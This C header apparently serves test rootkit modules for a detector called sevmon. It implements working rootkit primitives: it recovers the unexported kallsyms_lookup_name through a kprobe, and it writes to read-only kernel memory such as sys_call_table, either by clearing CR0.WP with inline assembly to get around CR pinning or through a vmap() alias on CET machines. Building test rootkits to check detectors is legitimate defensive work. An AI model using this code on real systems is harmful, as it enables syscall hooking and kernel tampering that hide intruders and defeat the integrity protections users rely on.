/* SPDX-License-Identifier: GPL-2.0 */
/*
 * rk_common.h: the two primitives most Linux rootkits start from, shared by the sevmon test
 * rootkit modules (each module includes it; everything here is static).
 *
 *  - rk_lookup(): kallsyms_lookup_name() is not exported since 5.7. A kprobe on it makes the
 *    kprobe core resolve its address for us (kp.addr); we then call it directly.
 *  - rk_write_ro(): write to read-only kernel memory (rodata such as sys_call_table, or text).
 *    Classic way: clear CR0.WP so that ring 0 ignores the page's R/O bit. write_cr0() re-sets WP
 *    (CR pinning, 5.3+), so CR0 is written with inline asm. With CR4.CET set (user shadow
 *    stacks or kernel IBT on CET hardware) clearing WP raises #GP, so there the write goes
 *    through a temporary writable alias of the page(s) made with vmap() instead. Modules that
 *    use it define RK_WRITE_RO before including this file (it adds two parameters).
 */
#ifndef RK_COMMON_H
#define RK_COMMON_H

#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/processor-flags.h>

typedef unsigned long (*rk_kln_t)(const char *name);

/* Address of a kernel symbol (functions and, with CONFIG_KALLSYMS_ALL, data), or 0. */
static unsigned long __maybe_unused rk_lookup(const char *name)
{
	static rk_kln_t kln;

	if (!kln) {
		struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
		unsigned long a;

		if (register_kprobe(&kp) < 0)
			return 0;
		a = (unsigned long)kp.addr;
		unregister_kprobe(&kp);
		/* With IBT kernels, kprobes skips a leading ENDBR64: call the symbol itself. */
		if (*(u32 *)(a - 4) == 0xfa1e0ff3)
			a -= 4;
		kln = (rk_kln_t)a;
	}
	return kln(name);
}

static inline unsigned long rk_read_cr0(void)
{
	unsigned long v;

	asm volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static inline void rk_write_cr0_raw(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

static inline unsigned long rk_read_cr4(void)
{
	unsigned long v;

	asm volatile("mov %%cr4, %0" : "=r"(v));
	return v;
}

#ifdef RK_WRITE_RO
#include <linux/moduleparam.h>
/*
 * rk_alias=1 (load time) takes the vmap() path even where CR0.WP could be cleared, so that the
 * path CET machines need is exercised on others too. rk_method says which path ran last.
 */
static bool rk_alias;
module_param(rk_alias, bool, 0444);
MODULE_PARM_DESC(rk_alias, "write read-only memory through a vmap() alias, not CR0.WP");
static char *rk_method = "none";
module_param(rk_method, charp, 0444);
MODULE_PARM_DESC(rk_method, "how read-only memory was last written: cr0 or alias");

/*
 * A write to read-only kernel memory (kernel image: text or rodata) in three steps, so that the
 * copy itself can run where sleeping is not allowed (stop_machine): rk_ro_begin() may sleep
 * (vmap), rk_ro_copy() does not, rk_ro_end() undoes the mapping.
 */
struct rk_ro {
	char *at;	/* where to write: DST itself (CR0 path) or its alias */
	void *va;	/* the vmap() alias, or NULL */
};

static int rk_ro_begin(struct rk_ro *w, void *dst, size_t len)
{
	unsigned long off = offset_in_page(dst);
	struct page *pages[2];

	w->va = NULL;
	w->at = dst;
	if (!rk_alias && !(rk_read_cr4() & X86_CR4_CET)) {
		rk_method = "cr0";
		return 0;
	}
	if (len > PAGE_SIZE)
		return -EINVAL;
	/* At most two pages: a write may straddle a page boundary. */
	pages[0] = virt_to_page(dst);
	pages[1] = virt_to_page((char *)dst + len - 1);
	w->va = vmap(pages, off + len > PAGE_SIZE ? 2 : 1, VM_MAP, PAGE_KERNEL);
	if (!w->va)
		return -ENOMEM;
	w->at = (char *)w->va + off;
	rk_method = "alias";
	return 0;
}

static void rk_ro_copy(struct rk_ro *w, const void *src, size_t len)
{
	unsigned long flags, cr0 = 0;

	if (!w->va) {
		local_irq_save(flags);
		cr0 = rk_read_cr0();
		rk_write_cr0_raw(cr0 & ~X86_CR0_WP);
	}
	if (len == sizeof(long) && IS_ALIGNED((unsigned long)w->at, sizeof(long)))
		WRITE_ONCE(*(unsigned long *)w->at, *(const unsigned long *)src);
	else
		memcpy(w->at, src, len);
	if (!w->va) {
		rk_write_cr0_raw(cr0);
		local_irq_restore(flags);
	}
}

static void rk_ro_end(struct rk_ro *w)
{
	if (w->va)
		vunmap(w->va);
}

/* Copy LEN bytes to DST in read-only kernel memory (process context). */
static int __maybe_unused rk_write_ro(void *dst, const void *src, size_t len)
{
	struct rk_ro w;
	int err = rk_ro_begin(&w, dst, len);

	if (err)
		return err;
	rk_ro_copy(&w, src, len);
	rk_ro_end(&w);
	return 0;
}
#endif /* RK_WRITE_RO */

#endif
